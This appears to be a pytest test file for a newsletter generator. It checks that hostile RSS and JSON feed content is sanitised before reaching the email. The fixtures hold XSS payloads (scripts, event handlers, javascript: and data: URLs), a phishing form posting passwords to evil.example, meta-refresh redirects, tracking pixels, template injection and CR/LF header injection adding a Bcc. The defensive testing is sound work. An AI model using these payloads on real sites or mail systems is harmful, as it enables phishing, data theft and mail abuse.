"""Hostile feed content, run through the real pipeline into the email a reader gets.

Each test puts one kind of attack in a local feed file of a newsletter folder (built like
`conftest.make_newsletter`), runs `preview_issue`, and reads the `.html`, `.txt` and `.eml` it
wrote: the attack must be gone (or shown as plain text), and the story itself must still be
there, so a test cannot pass just because the item was dropped.
"""

from __future__ import annotations

import email
import json
import re
from dataclasses import dataclass
from datetime import timedelta
from email import policy
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import lxml.etree
import lxml.html
import pytest
from conftest import CONFIG, NOW, make_newsletter

from digest.config import load_config
from digest.pipeline import preview_issue

LONG = (
    "The council voted on Tuesday evening to keep the swimming pool open through the winter, "
    "after a petition signed by more than two thousand residents asked it to reconsider."
)
LONG2 = (
    "Officials said the extra heating costs would be met from the leisure budget, and that the "
    "opening hours would stay the same until the end of March next year at the earliest."
)
STORY_URL = "https://news.example.org/story-1"
EXAMPLE_SOURCES = '[[sources]]\nname = "Example articles"\nfolder = "articles"\n'
FEED_SOURCE = '[[sources]]\nname = "Wire"\nfeed = "{name}"\nfull_text = "never"\n'


@dataclass(frozen=True)
class Output:
    """What `digest preview` wrote for the preview reader."""

    html: str
    text: str
    eml: bytes

    @property
    def message(self) -> EmailMessage:
        msg = email.message_from_bytes(self.eml, policy=policy.default)
        assert isinstance(msg, EmailMessage)
        return msg

    @property
    def tree(self) -> lxml.html.HtmlElement:
        return lxml.html.fromstring(self.html)

    def headlines(self) -> list[str]:
        return [h.text_content() for h in self.tree.iter("h2")]

    def images(self) -> list[str]:
        return [str(src) for src in self.tree.xpath("//img/@src")]

    def everything(self) -> str:
        """The files as written, plus the .eml's headers and decoded parts (quoted-printable
        would otherwise split a needle over a soft line break)."""
        msg = self.message
        headers = "\n".join(f"{k}: {v}" for k, v in msg.items())
        plain = msg.get_body(("plain",))
        html = msg.get_body(("html",))
        assert plain is not None and html is not None
        return "\n".join(
            [self.html, self.text, headers, str(plain.get_content()), str(html.get_content())]
        )


def rss_item(
    title: str,
    html: str,
    *,
    n: int = 1,
    link: str | None = STORY_URL,
    extra: str = "",
) -> str:
    """One RSS item, published `n` hours before NOW; `title` is XML text, `html` goes in CDATA."""
    when = format_datetime(NOW - timedelta(hours=n))
    link_xml = f"<link>{link}</link>" if link else ""
    return (
        f'<item><title>{title}</title>{link_xml}<guid isPermaLink="false">story-{n}</guid>'
        f"<pubDate>{when}</pubDate>{extra}<description><![CDATA[{html}]]></description></item>"
    )


def rss(*items: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>'
        f"<title>Wire</title><link>https://news.example.org/</link>{''.join(items)}"
        "</channel></rss>"
    )


def preview(
    tmp_path: Path,
    feed: str | None,
    *,
    feed_name: str = "feed.xml",
    own_articles: dict[str, str] | None = None,
) -> Output:
    """A newsletter folder whose sources are the feed file (and, if given, a folder of the
    user's own article files); its preview for NOW, as written to disk."""
    root = make_newsletter(tmp_path)
    sources = ""
    if feed is not None:
        (root / feed_name).write_text(feed, encoding="utf-8")
        sources += FEED_SOURCE.format(name=feed_name)
    if own_articles:
        (root / "own").mkdir()
        for name, body in own_articles.items():
            (root / "own" / name).write_text(body, encoding="utf-8")
        sources += '\n[[sources]]\nname = "Club"\nfolder = "own"\n'
    assert EXAMPLE_SOURCES in CONFIG
    (root / "digest.toml").write_text(CONFIG.replace(EXAMPLE_SOURCES, sources), encoding="utf-8")
    config = load_config(root / "digest.toml")
    result = preview_issue(config, config.get_list("daily"), root / "preview", now=NOW)
    html, text, eml = result.paths
    return Output(
        html.read_text(encoding="utf-8"), text.read_text(encoding="utf-8"), eml.read_bytes()
    )


def every_url(out: Output) -> list[str]:
    return [
        str(u)
        for u in out.tree.xpath(
            "//@href | //@src | //@action | //@formaction | //@background | //@poster | //@srcset"
        )
    ]


def assert_story_arrived(out: Output, title: str = "Pool stays open") -> None:
    assert out.headlines() == [title]
    assert LONG in out.html and LONG2 in out.html
    assert LONG[:60] in out.text


# Scripts.


def test_scripts_in_a_feed_item_never_reach_the_email(tmp_path: Path) -> None:
    html = (
        f'<p>{LONG}<script>alert("in-a-paragraph")</script></p>'
        '<script src="https://evil.example/x.js"></script>'
        "<noscript>alert-fallback</noscript>"
        '<p>&lt;script&gt;alert("escaped-once")&lt;/script&gt;</p>'
        f'<p>{LONG2}</p><script type="module">import("https://evil.example/m.js")</script>'
    )
    title = "Pool stays open&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;"
    out = preview(tmp_path, rss(rss_item(title, html)))
    assert_story_arrived(out)
    assert out.tree.xpath("//script") == []
    everything = out.everything()
    for bad in ("alert", "evil.example", "<script", "&lt;script"):
        assert bad not in everything, bad


# Event handlers.


def test_event_handlers_in_a_feed_item_never_reach_the_email(tmp_path: Path) -> None:
    html = (
        f'<p onclick="steal(1)" onmouseover="steal(2)">{LONG}</p>'
        '<img src="https://img.example.org/pool.jpg" alt="The pool" onerror="steal(3)" '
        'onload="steal(4)">'
        f'<div ONFOCUS="steal(5)" tabindex="1" autofocus><p>{LONG2}</p></div>'
        '<svg onload="steal(6)"><circle r="1"/></svg><body onload="steal(7)"></body>'
    )
    out = preview(tmp_path, rss(rss_item("Pool stays open", html)))
    assert_story_arrived(out)
    assert out.images() == ["https://img.example.org/pool.jpg"]  # the image, without handlers
    handlers = [
        f"<{el.tag} {name}>"
        for el in out.tree.iter(lxml.etree.Element)
        for name in el.attrib
        if name.lower().startswith("on")
    ]
    assert handlers == []
    everything = out.everything()
    assert "steal" not in everything
    assert not re.search(r"(?i)\bon(error|load|click|mouseover|focus)\s*=", everything)


# javascript: and data: URLs.


def test_javascript_urls_are_never_links_or_images(tmp_path: Path) -> None:
    html = (
        f'<p>{LONG} <a href="javascript:alert(1)">Vote now</a></p>'
        '<p><a href="JaVaScRiPt:alert(2)">Mixed case</a> <a href=" java&#09;script:alert(3)">'
        'Tab</a> <a href="vbscript:msgbox(4)">VB</a></p>'
        f'<img src="javascript:alert(5)"><p>{LONG2}</p>'
    )
    item = rss_item(
        "Pool stays open",
        html,
        link="javascript:alert(document.cookie)",
        extra='<media:content url="javascript:alert(6)" medium="image"/>',
    )
    out = preview(tmp_path, rss(item))
    assert_story_arrived(out)
    assert out.tree.xpath("//h2//a") == []  # the story has no safe link, so its title is not one
    assert "Read more" not in out.text
    assert out.images() == []
    assert all(re.match(r"https?://", u) for u in every_url(out)), every_url(out)
    everything = out.everything()
    assert not re.search(r"(?i)javascript|vbscript|alert\(|msgbox", everything)


def test_data_urls_are_never_links_or_images(tmp_path: Path) -> None:
    html = (
        '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"'
        ' alt="Inline">'
        f"<p>{LONG} "
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">More</a></p>'
        f'<img src="https://img.example.org/real.jpg" alt="The pool"><p>{LONG2}</p>'
    )
    item = rss_item(
        "Pool stays open",
        html,
        link="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
        extra='<media:content url="data:image/svg+xml,&lt;svg onload=alert(2)&gt;" '
        'medium="image"/>',
    )
    out = preview(tmp_path, rss(item))
    assert_story_arrived(out)
    assert out.images() == ["https://img.example.org/real.jpg"]  # the first real image
    assert out.tree.xpath("//img/@alt") == ["The pool"]
    assert all(re.match(r"https?://", u) for u in every_url(out)), every_url(out)
    everything = out.everything()
    assert not re.search(r"(?i)\bdata:|base64|PHNjcmlwd", everything)


# Forms.


def test_forms_in_a_feed_item_never_reach_the_email(tmp_path: Path) -> None:
    html = (
        f"<p>{LONG}</p>"
        '<form action="https://evil.example/steal" method="post"><p>Enter the password of your '
        "bank account below, the council said, so that your pool pass stays valid.</p>"
        '<label>Your bank password</label><input type="password" name="pw">'
        '<select name="s"><option>Checking</option>'
        "</select><textarea>Type your PIN here</textarea><button>Log in</button></form>"
        '<input type="submit" value="Confirm account"><button formaction="https://evil.example/b">'
        f"Press</button><p>{LONG2}</p>"
    )
    out = preview(tmp_path, rss(rss_item("Pool stays open", html)))
    assert_story_arrived(out)
    assert out.tree.xpath("//form | //input | //button | //select | //textarea | //option") == []
    everything = out.everything()
    for bad in ("evil.example", "password", "Checking", "PIN", "Log in", "Confirm account"):
        assert bad not in everything, bad


# Meta refresh.


def test_meta_refresh_in_a_feed_item_never_reaches_the_email(tmp_path: Path) -> None:
    html = (
        '<meta http-equiv="refresh" content="0; url=https://evil.example/phish">'
        f"<p>{LONG}</p>"
        '<head><meta http-equiv="Refresh" content="5;URL=https://evil.example/later"></head>'
        '<p><meta http-equiv="set-cookie" content="session=stolen">'
        f'<base href="https://evil.example/">{LONG2}</p>'
    )
    out = preview(tmp_path, rss(rss_item("Pool stays open", html)))
    assert_story_arrived(out)
    equivs = [str(v).lower() for v in out.tree.xpath("//meta/@http-equiv")]
    assert "refresh" not in equivs and "set-cookie" not in equivs
    assert out.tree.xpath("//base") == []
    everything = out.everything()
    assert "evil.example" not in everything and "stolen" not in everything


# Tracking pixels.


def test_tracking_pixels_are_left_out_and_the_real_image_is_shown(tmp_path: Path) -> None:
    html = (
        '<img src="https://t.example.net/open.gif?reader=42" width="1" height="1">'
        '<img src="https://feeds.feedburner.com/~r/wire/~4/AbCdEf" alt="">'
        '<img src="https://stats.example.net/p.png" width="0px" height="0px">'
        '<img src="https://ads.example.net/track/open?id=9" alt="">'
        f'<p>{LONG}</p><img src="https://img.example.org/pool.jpg" alt="The pool"><p>{LONG2}</p>'
    )
    out = preview(tmp_path, rss(rss_item("Pool stays open", html)))
    assert_story_arrived(out)
    assert out.images() == ["https://img.example.org/pool.jpg"]
    everything = out.everything()
    for tracker in ("t.example.net", "feedburner", "stats.example.net", "ads.example.net"):
        assert tracker not in everything, tracker


def test_a_story_whose_only_image_is_a_pixel_has_no_image(tmp_path: Path) -> None:
    html = (
        f'<p>{LONG}</p><img src="https://t.example.net/o.gif" height="1" width="1"><p>{LONG2}</p>'
    )
    out = preview(tmp_path, rss(rss_item("Pool stays open", html)))
    assert_story_arrived(out)
    assert out.images() == []
    assert "t.example.net" not in out.everything()


@pytest.mark.parametrize(
    "media",
    [
        '<media:content url="https://t.example.net/open.gif" width="1" height="1" medium="image"/>',
        '<media:thumbnail url="https://feeds.feedburner.com/~r/wire/~4/AbCdEf" width="1" '
        'height="1"/>',
    ],
    ids=["media-content-1x1", "media-thumbnail-feedburner"],
)
def test_a_tracking_pixel_given_as_the_items_media_is_not_shown(tmp_path: Path, media: str) -> None:
    """Media RSS names an item's picture outside its HTML. A 1x1 picture, or one from a known
    open counter, is a tracking pixel there too: shown as the top story's image, it would load
    (and count the open) each time a reader opens the email."""
    html = f"<p>{LONG}</p><p>{LONG2}</p>"
    out = preview(tmp_path, rss(rss_item("Pool stays open", html, extra=media)))
    assert_story_arrived(out)
    assert out.images() == []
    everything = out.everything()
    assert "t.example.net" not in everything and "feedburner" not in everything


# Jinja and MJML syntax in feed text.


JINJA_TITLE = "Pool {{ 7*7 }} {% if true %}open{% endif %} {{ reader.unsubscribe_url }} {# x #}"
JINJA_TEXT = (
    "The council said {{ 7*7 }} residents signed, {% for i in range(3) %}again{% endfor %} "
    "and {{ reader.email }} was never part of the petition at all."
)


def test_jinja_syntax_in_feed_text_is_shown_literally_not_run(tmp_path: Path) -> None:
    html = f"<p>{JINJA_TEXT}</p><p>{LONG}</p><p>{LONG2}</p>"
    out = preview(tmp_path, rss(rss_item(JINJA_TITLE, html)))
    assert out.headlines() == [JINJA_TITLE]
    lead = [p.text_content() for p in out.tree.iter("p")]
    assert JINJA_TEXT in lead
    assert JINJA_TITLE in out.text.splitlines()
    assert JINJA_TEXT in " ".join(out.text.split())
    msg = out.message
    assert msg["Subject"] == f"The Daily Example, 24 Nov 2026: {JINJA_TITLE}"
    title = out.tree.find(".//title")
    assert title is not None and title.text_content() == msg["Subject"]
    # Not evaluated: no 49, no loop output, and the reader's values only where the theme puts them.
    everything = out.everything()
    assert "49" not in " ".join(out.headlines()) and "againagain" not in everything
    unsubscribe = "https://news.example.org/unsubscribe?list=daily&amp;preview=1"
    assert out.html.count(unsubscribe) == 1  # the footer link only


MJML_TEXT = (
    "The council said </mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script>"
    '</mj-raw><mj-section><mj-column><mj-text> and <mj-button href="https://evil.example/">'
    "Claim your prize</mj-button> would stay in the minutes as written."
)


def test_mjml_syntax_in_feed_text_is_escaped_not_compiled(tmp_path: Path) -> None:
    """Feed HTML may hold escaped markup (`&lt;mj-raw&gt;`), which is text: it must reach the
    reader as those characters, never as MJML the compiler acts on."""
    escaped = MJML_TEXT.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    html = f"<p>{escaped}</p><p>{LONG}</p><p>{LONG2}</p>"
    title = "Pool stays open &lt;/mj-text&gt;&lt;mj-raw&gt;&lt;script&gt;x()&lt;/script&gt;"
    out = preview(tmp_path, rss(rss_item(title, html)))
    (headline,) = out.headlines()
    assert headline.startswith("Pool stays open") and "<" not in headline
    assert MJML_TEXT in [p.text_content() for p in out.tree.iter("p")]
    assert "".join(MJML_TEXT.split()) in "".join(out.text.split())  # wrapped, but all there
    assert out.tree.xpath("//script") == []
    assert not [u for u in every_url(out) if "evil.example" in u]
    assert out.tree.xpath("//a[contains(., 'Claim your prize')]") == []
    assert "&lt;mj-raw&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/mj-raw&gt;" in out.html
    assert "You are receiving this because" in out.html  # the footer is still where it was


def test_mjml_and_jinja_in_a_title_that_reaches_the_template_raw(tmp_path: Path) -> None:
    """An article file's front-matter title is not sanitised as feed HTML is: the template's
    escaping alone must keep MJML and Jinja in it as text."""
    title = "Club news </mj-text><mj-raw><script>alert(1)</script></mj-raw> {{ 6*7 }}"
    article = f"---\ntitle: '{title}'\ndate: 2026-11-24T06:00:00Z\n---\n\n{LONG}\n\n{LONG2}\n"
    out = preview(tmp_path, None, own_articles={"club.md": article})
    assert out.headlines() == [title]
    assert out.tree.xpath("//script") == []
    assert title in out.text.splitlines()
    assert out.message["Subject"] == f"The Daily Example, 24 Nov 2026: {title}"


# CR/LF in titles.


INJECTED = (
    "Pool stays open\r\nBcc: victim@example.net\r\n\r\nX-Injected: yes\u2028Left\rTo: x@e.org"
)
ONE_LINE = "Pool stays open Bcc: victim@example.net X-Injected: yes Left To: x@e.org"


def _rss_with_crlf_title() -> str:
    xml_title = "".join(f"&#{ord(c)};" if c in "\r\n\u2028" else c for c in INJECTED)
    return rss(rss_item(xml_title, f"<p>{LONG}</p><p>{LONG2}</p>"))


def _json_with_crlf_title() -> str:
    return json.dumps(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "Wire",
            "items": [
                {
                    "id": "story-1",
                    "url": STORY_URL,
                    "title": INJECTED,
                    "content_html": f"<p>{LONG}</p><p>{LONG2}</p>",
                    "date_published": (NOW - timedelta(hours=1)).isoformat(),
                }
            ],
        }
    )


@pytest.mark.parametrize(
    ("feed_name", "make_feed"),
    [("feed.xml", _rss_with_crlf_title), ("feed.json", _json_with_crlf_title)],
    ids=["rss", "json-feed"],
)
def test_line_breaks_in_a_title_never_break_the_subject_or_the_eml(
    tmp_path: Path, feed_name: str, make_feed: object
) -> None:
    assert callable(make_feed)
    out = preview(tmp_path, make_feed(), feed_name=feed_name)
    msg = out.message
    assert msg["Subject"] == f"The Daily Example, 24 Nov 2026: {ONE_LINE}"
    assert msg.get_all("Bcc") is None and msg.get_all("X-Injected") is None
    assert msg.get_all("To") == ["daily@example.com"]
    head = out.eml.split(b"\r\n\r\n", 1)[0]
    header_names = [line.split(b":")[0] for line in head.split(b"\r\n") if line[:1].strip()]
    assert b"Bcc" not in header_names and b"X-Injected" not in header_names
    assert header_names.count(b"To") == 1 and header_names.count(b"Subject") == 1
    assert msg.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in msg.iter_parts()] == ["text/plain", "text/html"]
    assert out.headlines() == [ONE_LINE]
    assert ONE_LINE in out.text.splitlines()  # the text part's headline is still one line
    assert LONG in out.html
